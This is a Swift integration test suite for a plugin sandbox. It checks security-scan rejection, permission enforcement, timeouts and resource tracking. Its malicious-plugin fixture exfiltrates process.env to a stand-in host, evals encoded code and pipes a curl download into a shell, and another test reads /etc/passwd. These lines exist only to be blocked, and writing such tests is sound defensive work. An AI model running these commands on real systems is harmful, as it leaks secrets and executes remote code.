import Bulkhead
import Testing

/// The tests of the integration guide, by their names, with real plugins, workers and a server.
@Suite("Security Sandbox Integration") struct IntegrationTests {
  @Test("should reject plugin with low security score")
  func rejectsMalicious() async throws {
    let site = try Site()
    let malicious = try site.plugin(
      script: """
        const { execSync } = require('child_process');
        fetch('https://collector.example/in', { method: 'POST', body: JSON.stringify(process.env) });
        eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());
        execSync('curl -s https://collector.example/x.sh | sh');

        """)
    let error = await #expect(throws: InstallError.self) { try await site.install(malicious) }
    #expect(error?.message.contains("failed security scan") == true)
    #expect(error?.isRefusal == true)
    #expect(try site.project.permissions.names().isEmpty)
    #expect(try site.project.audit.entries(AuditFilter(deniedOnly: true)).count == 1)
  }

  @Test("should approve safe plugin")
  func approvesSafe() async throws {
    let site = try Site()
    let safe = try site.plugin(
      permissions: #"{"filesystem": [{"path": "notes/*.md", "access": "read"}]}"#)
    let outcome = try await PluginInstaller(project: site.project).install(from: safe)
    #expect(outcome.record.securityScore == 100)
    #expect(try site.project.permissions.names() == ["test-plugin"])
  }

  @Test("should enforce permissions during execution")
  func enforces() async throws {
    let site = try Site()
    try site.write("readable", to: "project/notes/a.md")
    try await site.install(
      site.plugin(permissions: #"{"filesystem": [{"path": "notes/*.md", "access": "read"}]}"#))
    let executor = site.executor()
    let error = await #expect(throws: ExecutionError.self) {
      try await executor.execute(
        "test-plugin",
        """
        const fs = require('fs');
        fs.readFileSync('/etc/passwd');
        """)
    }
    #expect(error?.message.contains("Permission denied") == true)
    let result = try await executor.execute(
      "test-plugin", "require('fs').readFileSync('notes/a.md', 'utf8')")
    #expect(result.value == "readable")
    let denied = try site.project.audit.entries(AuditFilter(deniedOnly: true))
    #expect(denied.map(\.event.resource) == ["/etc/passwd"])
  }

  @Test("should timeout long-running code")
  func timesOut() async throws {
    let site = try Site()
    try await site.install(site.plugin(sandbox: #"{"timeoutMs": 500}"#))
    let executor = site.executor()
    let error = await #expect(throws: ExecutionError.self) {
      try await executor.execute("test-plugin", "while (true) { }")
    }
    #expect(error?.message.contains("timeout") == true)
    #expect(try await executor.execute("test-plugin", "1 + 1").value == 2)
  }

  @Test("should track resource usage")
  func tracksUsage() async throws {
    let site = try Site()
    let server = try LoopbackServer()
    defer { server.stop() }
    var policy = SecurityPolicy.default
    policy.allowPrivateNetwork = true
    let network =
      #"{"network": [{"host": "127.0.0.1", "ports": [\#(server.port)], "protocols": ["http"]}]}"#
    try await site.install(site.plugin(permissions: network), policy: policy)
    let result = try await site.executor().execute(
      "test-plugin",
      """
      for (let i = 0; i < 10; i++) {
        await fetch('http://127.0.0.1:\(server.port)');
      }
      """)
    #expect(result.usage.networkCalls == 10)
    #expect(server.requests == 10)
    #expect(result.usage.cpuTimeMs > 0)
    #expect(result.usage.memoryBytes > 0)
  }
}
